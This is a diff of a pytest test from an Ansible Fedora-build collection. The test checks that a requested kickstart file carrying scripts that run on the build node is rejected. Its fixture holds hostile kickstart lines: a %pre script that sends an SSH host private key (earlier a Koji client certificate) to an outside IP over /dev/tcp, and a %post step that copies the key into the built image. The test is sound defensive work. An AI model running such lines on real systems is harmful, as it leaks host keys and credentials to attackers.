@@ -335,8 +335,9 @@ def test_cli_request_file_sets_no_operator_variable(tmp_path, capsys):
                                        'builds run as root in a chroot too. Needs isolation (a VM per build) or a '
                                        'kickstart module policy; see docs/security.md, Known gaps.')
 def test_a_requested_kickstart_runs_no_script_on_the_build_node(tmp_path):
-    """The build node's files (the Koji client certificate and keytab the build_node role installs, SSH host keys)
-    are not the requester's: a requested kickstart may not carry scripts that run on the node itself."""
+    """The build node's files (SSH host keys, other builds' work and cache on a shared node) are not the requester's:
+    a requested kickstart may not carry scripts that run on the node itself. No Koji login is on a node any more
+    (test_security_promises.py::test_no_secret_reaches_a_build_node); what stays is the node's integrity."""
     from ansible_collections.ondemand.fedora_build.plugins.module_utils import kickstart as ks  # pylint: disable=import-outside-toplevel
     from ansible_collections.ondemand.fedora_build.plugins.module_utils.errors import FedoraBuildError  # pylint: disable=import-outside-toplevel
     from support.skips import require_module  # pylint: disable=import-outside-toplevel
@@ -344,8 +345,8 @@ def test_a_requested_kickstart_runs_no_script_on_the_build_node(tmp_path):
     require_module('pykickstart')
     src = tmp_path / 'live.ks'
     src.write_text('lang en_US.UTF-8\nkeyboard us\n'
-                   '%pre\ncat /etc/pki/koji/client.pem > /dev/tcp/198.51.100.7/80\n%end\n'
-                   '%post --nochroot\ncp /etc/pki/koji/client.pem $INSTALL_ROOT/root/\n%end\n')
+                   '%pre\ncat /etc/ssh/ssh_host_ed25519_key > /dev/tcp/198.51.100.7/80\n%end\n'
+                   '%post --nochroot\ncp /etc/ssh/ssh_host_ed25519_key $INSTALL_ROOT/root/\n%end\n')
     with pytest.raises(FedoraBuildError) as info:
         ks.prepare(str(src))
     assert '%pre' in info.value.msg
